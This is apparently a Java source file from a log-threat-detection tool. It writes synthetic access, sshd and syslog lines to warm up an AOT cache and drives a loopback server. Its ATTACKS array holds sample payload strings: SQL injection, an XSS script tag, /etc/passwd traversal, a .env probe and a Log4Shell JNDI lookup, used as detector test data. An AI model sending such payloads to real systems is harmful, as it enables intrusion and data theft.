package dev.vedette.app;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import picocli.CommandLine.Command;
import picocli.CommandLine.Parameters;

/// Confined to the main thread. `vedette rehearse`: does once what the commands do every day, over
/// made-up lines of every main format, while the launcher has the Java runtime record an AOT cache
/// (JEP 483, 514, 515): classes arrive loaded and linked. Nothing that it does is seen or stored,
/// but for the parsed rules ([RulePack#keepParsed]).
///
/// Every class in a cache costs a little at each start, needed or not, and the web server alone is
/// thousands; so `rehearse serve` and `rehearse` make a cache each.
@Command(
    name = "rehearse",
    hidden = true,
    description = "Touches what every start needs; the launcher records it.")
final class RehearseCommand implements Callable<Integer> {
  /// Enough that every path was taken.
  private static final int ACCESS_LINES = 20_000;

  private static final int OTHER_LINES = 10_000;

  /// `%a` an address, `%n` a number, `%x` hexadecimal digits: new ones for every line.
  private static final String[] ACCESS = {
    "%a - - [10/Oct/2026:13:55:36 +0000] \"GET /p/%n/item-%n.html HTTP/1.1\" 200 %n \"-\""
        + " \"Mozilla/5.0 (X11; Linux x86_64; rv:139.0) Gecko/20100101 Firefox/139.0\"",
    "%a - - [10/Oct/2026:13:55:36 +0000] \"GET /assets/app.js HTTP/1.1\" 304 0"
        + " \"https://www.example.com/\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%n.0.0.0 Safari/537.36\"",
    "%a - alice [10/Oct/2026:13:55:36 +0000] \"POST /api/v1/orders?session=%x&ref=%n HTTP/2.0\" 201"
        + " %n \"https://www.example.com/from/%x\" \"Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like"
        + " Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.%n Mobile/15E148"
        + " Safari/604.1\"",
    "%a - - [10/Oct/2026:13:55:36 +0000] \"GET /search?q=red%20shoes+%n HTTP/1.1\" 200 %n"
        + " \"https://search.example.org/?q=%x\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.%n.0 Safari/537.36\"",
  };

  private static final String[] ATTACKS = {
    "%a - - [10/Oct/2026:13:55:36 +0000] \"GET"
        + " /item?id=%n%27%20UNION%20SELECT%20a,b%20FROM%20users-- HTTP/1.1\" 200 %n \"-\""
        + " \"sqlmap/1.8\"",
    "%a - - [10/Oct/2026:13:55:36 +0000] \"GET /?q=%3Cscript%3Ealert(%n)%3C/script%3E HTTP/1.1\""
        + " 200 %n \"-\" \"Mozilla/5.0\"",
    "%a - - [10/Oct/2026:13:55:36 +0000] \"GET /../../../../etc/passwd HTTP/1.1\" 400 %n \"-\""
        + " \"curl/8.5.0\"",
    "%a - - [10/Oct/2026:13:55:36 +0000] \"GET /.env HTTP/1.1\" 404 %n \"-\""
        + " \"${jndi:ldap://%a/x}\"",
  };

  private static final String[] OTHERS = {
    "Oct 10 13:55:36 web1 sshd[%n]: Failed password for invalid user admin from %a port %n ssh2",
    "Oct 10 13:55:36 web1 sshd[%n]: Invalid user admin from %a port %n",
    "Oct 10 13:55:36 web1 sshd[%n]: Accepted publickey for alice from 10.0.0.%n port %n ssh2: RSA"
        + " SHA256:%x",
    "Oct 10 13:55:36 web1 sshd[%n]: Connection closed by authenticating user root %a port %n"
        + " [preauth]",
    "Oct 10 13:55:36 web1 CRON[%n]: pam_unix(cron:session): session opened for user root(uid=0) by"
        + " (uid=0)",
    "Oct 10 13:55:36 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
        + " COMMAND=/usr/bin/apt update",
    "<34>1 2026-10-10T13:55:36.003Z web1 app %n ID47 - order %n was paid by %a",
    "[Sat Oct 10 13:55:36.123456 2026] [core:error] [pid %n] [client %a:%n] AH00037: Symbolic link"
        + " not allowed",
    "2026/10/10 13:55:36 [error] %n#0: *%n open() \"/srv/www/%x\" failed (2: No such file or"
        + " directory), client: %a, server: example.com, request: \"GET /%x HTTP/1.1\", host:"
        + " \"example.com\"",
    "{\"@timestamp\":\"2026-10-10T13:55:36Z\",\"message\":\"order"
        + " %n\",\"source\":{\"ip\":\"%a\"},\"user\":{\"name\":\"bob\"}}",
    "time=2026-10-10T13:55:36Z level=info msg=\"order paid\" order=%n client=%a",
    "the application started in %n milliseconds",
  };

  /// What the pages ask for.
  private static final List<String> SERVED =
      List.of(
          "/",
          "/main.js",
          "/style.css",
          "/docs",
          "/metrics",
          "/api/session",
          "/api/stats",
          "/api/activity",
          "/api/timeline",
          "/api/trends",
          "/api/threats",
          "/api/top_ips",
          "/api/top?dimension=rule",
          "/api/alerts",
          "/api/rules",
          "/api/sources",
          "/api/events?limit=50",
          "/api/events?q=sshd&limit=50",
          "/api/events/recent",
          "/api/events/suspicious",
          "/alerts?is_anomaly=true",
          "/whitelist");

  private final RandomGenerator random =
      RandomGeneratorFactory.of("L64X128MixRandom").create(20261010);

  @Parameters(
      arity = "0..1",
      paramLabel = "serve",
      description = "What to rehearse: the centre; default: the other commands.")
  private String what = "";

  @Override
  public Integer call() throws IOException {
    var folder = Files.createTempDirectory("vedette-rehearsal");
    try {
      var access = write(folder.resolve("access.log"), ACCESS, ACCESS_LINES);
      var other = write(folder.resolve("other.log"), OTHERS, OTHER_LINES);
      RulePack.keepParsed();
      if (what.equals("serve")) {
        serve(folder);
        return Exit.OK;
      }
      String found = folder.resolve("found.jsonl").toString();
      Main.run("analyze", access, "--json");
      Main.run("analyze", access, other, "--json", "--detections", found, "--alerts", found);
      Main.run("analyze", other, "--no-progress");
      Main.run("parse", other);
      Main.run("rules", "list");
      return Exit.OK;
    } finally {
      try (var files = Files.walk(folder)) {
        for (var file : files.sorted(Comparator.reverseOrder()).toList()) {
          Files.delete(file);
        }
      }
    }
  }

  /// A centre on a free port of loopback, and what a person and a sender do with it.
  private void serve(Path folder) throws IOException {
    Main.commandLine("serve").parseArgs("serve", "--port", "0");
    // Its own empty configuration: nothing of this machine's is followed or listened to.
    var empty = Files.createFile(folder.resolve("vedette.yaml"));
    var config =
        Config.read(
            empty,
            Map.of(),
            Map.of(Config.Key.PORT, "0", Config.Key.DATA, folder.resolve("data").toString()));
    try (var flow = Flow.start(config, false, true);
        var client = HttpClient.newHttpClient()) {
      var secrets = flow.firstSecrets().orElseThrow();
      var base = URI.create("http://127.0.0.1:" + flow.port());
      ask(client, base, "GET", "/health", "", "");
      var login =
          ask(
              client,
              base,
              "POST",
              "/api/login",
              "",
              "{\"password\":\"" + secrets.adminPassword() + "\"}");
      String session = new ObjectMapper().readTree(login).path("token").asText();
      for (var log : List.of("access.log", "other.log")) {
        String lines = Files.readString(folder.resolve(log)).substring(0, 200_000);
        ask(client, base, "POST", "/api/ingest", secrets.ingestToken(), lines);
      }
      for (String path : SERVED) {
        ask(client, base, "GET", path, session, "");
      }
    }
  }

  private static String ask(
      HttpClient client, URI base, String method, String path, String token, String body)
      throws IOException {
    var request =
        HttpRequest.newBuilder(base.resolve(path))
            .timeout(Duration.ofSeconds(30))
            .header("Content-Type", path.equals("/api/login") ? "application/json" : "text/plain")
            .method(
                method,
                body.isEmpty()
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofString(body));
    if (!token.isEmpty()) {
      request.header("Authorization", "Bearer " + token);
    }
    try {
      var answer = client.send(request.build(), HttpResponse.BodyHandlers.ofString());
      if (answer.statusCode() != 200) {
        throw new IOException(
            "the rehearsal asked for " + path + " and was answered " + answer.statusCode());
      }
      return answer.body();
    } catch (InterruptedException _) {
      Thread.currentThread().interrupt();
      throw new IOException("interrupted");
    }
  }

  private String write(Path file, String[] templates, int lines) throws IOException {
    try (var out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16)) {
      for (int line = 0; line < lines; line++) {
        write(line % 500 == 499 ? one(ATTACKS) : one(templates), out);
      }
    }
    return file.toString();
  }

  private void write(String template, OutputStream out) throws IOException {
    var line = new StringBuilder(template.length() + 64);
    for (int i = 0; i < template.length(); i++) {
      char c = template.charAt(i);
      char next = i + 1 < template.length() ? template.charAt(i + 1) : ' ';
      if (c == '%' && "anx".indexOf(next) >= 0) {
        i++;
        switch (next) {
          case 'a' ->
              line.append(number(11, 220)).append('.').append(number(0, 255)).append(".7.9");
          case 'n' -> line.append(number(1, 99_999));
          default -> line.append(Long.toHexString(random.nextLong()));
        }
      } else {
        line.append(c);
      }
    }
    out.write(line.append('\n').toString().getBytes(StandardCharsets.UTF_8));
  }

  private int number(int from, int to) {
    return random.nextInt(from, to + 1);
  }

  private String one(String[] templates) {
    return templates[random.nextInt(templates.length)];
  }
}
